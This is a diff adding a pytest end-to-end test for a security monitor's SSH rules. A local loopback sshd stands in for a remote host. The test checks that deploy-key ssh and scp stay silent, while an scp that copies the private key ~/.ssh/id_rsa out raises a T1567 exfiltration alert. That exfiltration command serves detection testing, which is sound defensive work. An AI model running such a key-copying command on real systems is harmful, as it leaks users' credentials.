@@ -1,0 +1,93 @@
+"""The engine's volume and protocol rules with real tools: an SSH session's handshake is
+overhead, a key that authenticates (ssh -i, scp -i) is use, and scp of the key itself is a leak
+(a flow with no name: T1567 with destination.ip). A local sshd on a loopback port stands in for
+the remote host."""
+
+import os
+import shutil
+import subprocess
+import time
+
+import pytest
+
+from harness import assert_alert, assert_silent, get, is_alert, wait_until
+
+SSH_PORT = int(os.environ.get("E2E_SSH_PORT", "48022"))
+SSHD = shutil.which("sshd") or "/usr/sbin/sshd"
+
+
+@pytest.fixture
+def sshd(tmp_path, fake_home):
+    """sshd on 127.0.0.1:SSH_PORT that lets root in with a deploy key made here (generated
+    before the monitor starts, so its ssh-keygen is not watched). Yields (key, dropbox)."""
+    if not os.path.exists(SSHD):
+        pytest.fail("sshd not found: apt-get install openssh-server")
+    work = tmp_path / "sshd"
+    work.mkdir()
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / "host_key")], check=True)
+    key = fake_home.path / ".ssh" / "id_deploy"
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
+    # The key that is stolen in the attack: RSA 3072, about 2.6 KiB.
+    subprocess.run(["ssh-keygen", "-q", "-t", "rsa", "-b", "3072", "-N", "", "-f",
+                    str(fake_home.path / ".ssh" / "id_rsa")], check=True)
+    shutil.copy(f"{key}.pub", work / "authorized_keys")
+    dropbox = tmp_path / "dropbox"
+    dropbox.mkdir()
+    config = work / "sshd_config"
+    config.write_text(
+        f"ListenAddress 127.0.0.1:{SSH_PORT}\nHostKey {work / 'host_key'}\n"
+        f"AuthorizedKeysFile {work / 'authorized_keys'}\nPermitRootLogin prohibit-password\n"
+        "PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
+        "PidFile none\nSubsystem sftp internal-sftp\n")
+    os.makedirs("/run/sshd", exist_ok=True)
+    proc = subprocess.Popen([SSHD, "-D", "-e", "-f", str(config)], stdout=subprocess.DEVNULL,
+                            stderr=open(work / "sshd.log", "w"))
+    try:
+        def listening():
+            out = subprocess.run(["ss", "-Hltn", f"sport = :{SSH_PORT}"], capture_output=True, text=True)
+            return bool(out.stdout.strip())
+        wait_until(listening, 10, f"sshd listening on 127.0.0.1:{SSH_PORT}")
+        yield key, dropbox
+    finally:
+        proc.terminate()
+        proc.wait(timeout=10)
+
+
+def ssh_options(key):
+    return ["-i", str(key), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+            "-o", "BatchMode=yes", "-o", "LogLevel=ERROR"]
+
+
+def run(argv, fake_home):
+    result = subprocess.run(argv, env=fake_home.env(), capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, f"{argv[0]} exited {result.returncode}: {result.stderr}"
+
+
+def test_ssh_and_scp_with_a_deploy_key_are_silent(sshd, monitor, fake_home, tmp_path):
+    key, dropbox = sshd
+    artifact = tmp_path / "artifact.tar"
+    artifact.write_bytes(os.urandom(200_000))
+    run(["ssh", *ssh_options(key), "-p", str(SSH_PORT), "root@127.0.0.1", "true"], fake_home)
+    run(["scp", *ssh_options(key), "-P", str(SSH_PORT), str(artifact), f"root@127.0.0.1:{dropbox}/"],
+        fake_home)
+    assert (dropbox / "artifact.tar").stat().st_size == 200_000
+    time.sleep(0.2)
+    monitor.stop()
+    flows = [r for r in monitor.records() if get(r, "event.action") == "flow-summary"
+             and get(r, "destination.port") == SSH_PORT]
+    assert flows, "the monitor saw no flow to sshd"
+    # Other tests on this host run their own traffic: what this one did went to SSH_PORT only.
+    assert_silent([r for r in monitor.records() if get(r, "destination.port") == SSH_PORT])
+
+
+def test_scp_of_the_key_itself_alerts_with_the_address(sshd, monitor, fake_home):
+    key, dropbox = sshd
+    stolen = fake_home.path / ".ssh" / "id_rsa"
+    run(["scp", *ssh_options(key), "-P", str(SSH_PORT), str(stolen), f"root@127.0.0.1:{dropbox}/"], fake_home)
+    assert (dropbox / "id_rsa").exists()
+    monitor.poll_for(lambda r: is_alert(r), 20)
+    monitor.stop()
+    found = assert_alert([r for r in monitor.records() if get(r, "destination.port") == SSH_PORT], "T1567")
+    alert = found[-1]
+    assert get(alert, "destination.ip") == "127.0.0.1"
+    assert "id_rsa" in get(alert, "event.reason")
